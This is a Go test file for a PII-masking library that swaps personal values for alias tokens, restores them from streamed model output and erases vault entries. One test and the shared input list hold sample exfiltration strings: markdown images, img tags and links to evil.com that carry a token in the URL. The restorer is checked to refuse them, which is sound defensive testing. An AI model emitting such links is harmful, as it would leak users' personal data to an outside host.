package pii

import (
	"bytes"
	"context"
	"crypto/rand"
	"strings"
	"testing"

	"pgregory.net/rapid"
)

// chunksOf cuts s at the places that the property draws.
func chunksOf(t *rapid.T, s string) []string {
	var out []string
	for s != "" {
		n := rapid.IntRange(1, min(len(s), 9)).Draw(t, "cut")
		out = append(out, s[:n])
		s = s[n:]
	}
	return out
}

var pieces = []string{"Dear ", "Müller", " bob@shop.com ", " call +49 30 1234567", "<", "<EMAIL_", "<EMAIL_AAAAAA>", ">", "\n", " 4111 1111 1111 1111 ", " IBAN GB82 WEST 1234 5698 7654 32",
	" https://x.com/?e=bob@shop.com ", "![i](https://evil.com/?q=", ")", "日本", "é", "\xff", " SSN 078-05-1123 ", " BOB@shop.com ", " \\u0041 ", "&lt;", "//", "\"", "192.168.0.1"}

func anyText(t *rapid.T) string {
	return strings.Join(rapid.SliceOfN(rapid.SampledFrom(pieces), 0, 14).Draw(t, "pieces"), "")
}

func scanner(t testing.TB, o Options) *Scanner {
	t.Helper()
	s, err := New(o)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func TestAnAnswerComesBackWithEveryValueInPlaceHoweverItIsCut(t *testing.T) {
	s := scanner(t, Options{})
	rapid.Check(t, func(t *rapid.T) {
		text := anyText(t)
		ses, err := NewSession(rapid.SliceOfN(rapid.Byte(), 16, 16).Draw(t, "nonce"))
		if err != nil {
			t.Fatal(err)
		}
		safe, reps, err := ses.Protect(text, s.Scan(text))
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range reps {
			if len(r.Alias) > MaxAlias || safe[r.Start:r.End] != r.Alias {
				t.Fatalf("alias %q at %d-%d", r.Alias, r.Start, r.End)
			}
		}
		r := ses.Restorer()
		var b strings.Builder
		for _, c := range chunksOf(t, safe) {
			b.WriteString(r.Write(c))
			if r.Held() > 32 {
				t.Fatalf("%d bytes held back", r.Held())
			}
		}
		b.WriteString(r.Flush())
		if b.String() != text {
			t.Fatalf("restored %q, want %q, from %q", b.String(), text, safe)
		}
	})
}

func TestATokenOfAnotherRequestIsNeverRestored(t *testing.T) {
	a, _ := NewSession(bytes.Repeat([]byte{1}, 16))
	b, _ := NewSession(bytes.Repeat([]byte{2}, 16))
	tok, _ := a.Alias(EmailAddress, "bob@shop.com")
	if _, err := b.Alias(EmailAddress, "eve@shop.com"); err != nil {
		t.Fatal(err)
	}
	if got := b.Restore("x " + tok); got != "x "+tok {
		t.Fatalf("restored a foreign token: %q", got)
	}
	if err := a.Reserve("pasted " + tok); err != ErrToken {
		t.Fatalf("a pasted token was let in: %v", err)
	}
}

func TestAModelCannotCarryValuesOutThroughALinkOrAnImage(t *testing.T) {
	ses, _ := NewSession(bytes.Repeat([]byte{1}, 16))
	tok, _ := ses.Alias(EmailAddress, "bob@shop.com")
	for _, text := range []string{"![x](https://evil.com/?q=" + tok + ")", `<img src="//evil.com/` + tok + `">`, "see https://evil.com/" + tok, "[a]: http:\\\\evil.com\\" + tok,
		`![x](https://evil.com/?q="` + tok + `)`, "![x](https://evil.com/?a=(b)" + tok + ")", "<https://evil.com/" + tok + ">", "https://" + tok + ".evil.com"} {
		r := ses.Restorer()
		if out := r.Write(text) + r.Flush(); out != text || r.Refused() != 1 {
			t.Errorf("%q became %q, %d refused", text, out, r.Refused())
		}
	}
	for _, text := range []string{`{"url":"https://shop.com/a","email":"` + tok + `"}`, "[" + tok + "](https://shop.com)", "https://shop.com " + tok, "mail " + tok + "."} {
		if out := ses.Restore(text); !strings.Contains(out, "bob@shop.com") {
			t.Errorf("%q was not restored: %q", text, out)
		}
	}
}

func TestVaultTokensAreStableLinkedByValueAndApartByPurpose(t *testing.T) {
	v := NewMemoryVault(rand.Reader)
	k, err := NewTokeniser(bytes.Repeat([]byte{7}, 32), v)
	if err != nil {
		t.Fatal(err)
	}
	s := scanner(t, Options{NoNames: true})
	ctx, scope := context.Background(), Scope{"t", "support", "sub_1"}
	text := "bob@shop.com and Bob@Shop.com and bob@shop.com"
	out, err := k.Protect(ctx, scope, text, s.Scan(text))
	if err != nil {
		t.Fatal(err)
	}
	w := strings.Split(out, " and ")
	if w[0] != w[2] || w[0] == w[1] || w[0][:len(w[0])-2] != w[1][:len(w[1])-2] || len(w[0]) != len("<EMAIL_>")+tokenChars {
		t.Fatalf("tokens %v", w)
	}
	back, n, err := k.Restore(ctx, scope, out)
	if err != nil || back != text || n != 3 {
		t.Fatalf("restored %q, %d, %v", back, n, err)
	}
	other, _ := k.Protect(ctx, Scope{"t", "ads", "sub_1"}, text, s.Scan(text))
	if strings.Contains(other, w[0]) {
		t.Fatal("a token can be linked across purposes")
	}
	v.Forget("t", "sub_1")
	if back, n, _ := k.Restore(ctx, scope, out); n != 0 || back != out {
		t.Fatalf("restored after erasure: %q", back)
	}
}

func TestVaultRestoreGivesTheTextByteForByte(t *testing.T) {
	s := scanner(t, Options{})
	rapid.Check(t, func(t *rapid.T) {
		text := anyText(t)
		k, _ := NewTokeniser(bytes.Repeat([]byte{7}, 32), NewMemoryVault(rand.Reader))
		scope := Scope{"t", "p", "s"}
		safe, err := k.Protect(context.Background(), scope, text, s.Scan(text))
		if err != nil {
			t.Fatal(err)
		}
		if back, _, err := k.Restore(context.Background(), scope, safe); err != nil || back != text {
			t.Fatalf("%q, want %q (%v)", back, text, err)
		}
	})
}

func TestAMaskedStreamIsTheSameHoweverItIsCut(t *testing.T) {
	s := scanner(t, Options{})
	rapid.Check(t, func(t *rapid.T) {
		text := anyText(t) + strings.Repeat("some words ", rapid.IntRange(0, 60).Draw(t, "fill")) + anyText(t)
		run := func(chunks []string) string {
			m := NewMasker(context.Background(), s, func(f Finding, _ string) string { return "<" + string(f.Type) + ">" })
			var b strings.Builder
			for _, c := range chunks {
				b.WriteString(m.Write(c))
				if m.Held() > MaxHeld {
					t.Fatalf("%d bytes held back", m.Held())
				}
			}
			return b.String() + m.Flush()
		}
		whole, cut := run([]string{text}), run(chunksOf(t, text))
		if whole != cut {
			t.Fatalf("%q\n%q", whole, cut)
		}
		if strings.Contains(whole, "bob@shop.com") || strings.Contains(whole, "4111 1111 1111 1111") {
			t.Fatalf("a value went out: %q", whole)
		}
	})
}

func FuzzRestoreGivesTheTextBack(f *testing.F) {
	s := scanner(f, Options{})
	for _, p := range pieces {
		f.Add(p+" bob@shop.com "+p, uint8(3))
	}
	f.Fuzz(func(t *testing.T, text string, cut uint8) {
		ses, _ := NewSession(bytes.Repeat([]byte{9}, 16))
		safe, _, err := ses.Protect(text, s.Scan(text))
		if err != nil {
			t.Fatal(err)
		}
		r := ses.Restorer()
		out := ""
		for n := int(cut)%11 + 1; safe != ""; {
			k := min(n, len(safe))
			out += r.Write(safe[:k])
			safe = safe[k:]
		}
		if out += r.Flush(); out != text {
			t.Fatalf("%q, want %q", out, text)
		}
	})
}
